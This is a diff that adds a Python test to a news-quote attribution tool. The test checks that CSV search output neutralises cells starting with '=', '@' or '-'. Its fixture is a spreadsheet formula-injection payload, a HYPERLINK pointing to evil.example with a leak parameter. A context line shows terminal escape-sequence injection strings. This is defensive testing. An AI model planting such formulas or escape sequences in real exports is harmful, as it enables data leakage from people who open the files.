@@ -11,6 +11,7 @@ with it, and once as a real subprocess.
 
 from __future__ import annotations
 
+import csv
 import gzip
 import html
 import io
@@ -537,6 +538,30 @@ def test_search_csv_has_no_raw_control_characters(tmp_path: Path, capsys) -> Non
     out, _ = capsys.readouterr()
     [row] = [json.loads(line) for line in out.splitlines()]
     assert "\x1b[2J" not in row["content"] and "\x07the pier\x1b]0;pwned\x07" in row["content"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click") the mayor said.'
+
+
+def test_search_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path, capsys) -> None:
+    from onrecord.pipeline.ingest import add_batch
+    from onrecord.store import Store
+
+    db = tmp_path / "news.sqlite"
+    said = FORMULA.index("said")
+    attribution = Attribution(
+        source=[(said - 10, said - 1)],
+        cue=[(said, said + 4)],
+        content=[(0, said - 11)],
+        speaker="@mayor",
+        speaker_type="person",
+    )
+    add_batch(Store(str(db)), [Article("-pier", FORMULA, [attribution], published="2024-03-01")])
+    assert cli.main(["search", "mayor", "--db", str(db), "--format", "csv"]) == cli.EXIT_OK
+    out, _ = capsys.readouterr()
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["content"].startswith("'=HYPERLINK(")
+    assert row["speaker"] == "'@mayor" and row["article"] == "'-pier"
 
 
 def test_table_output_and_error_lines_carry_no_escape(extract, tmp_path, capsys) -> None:
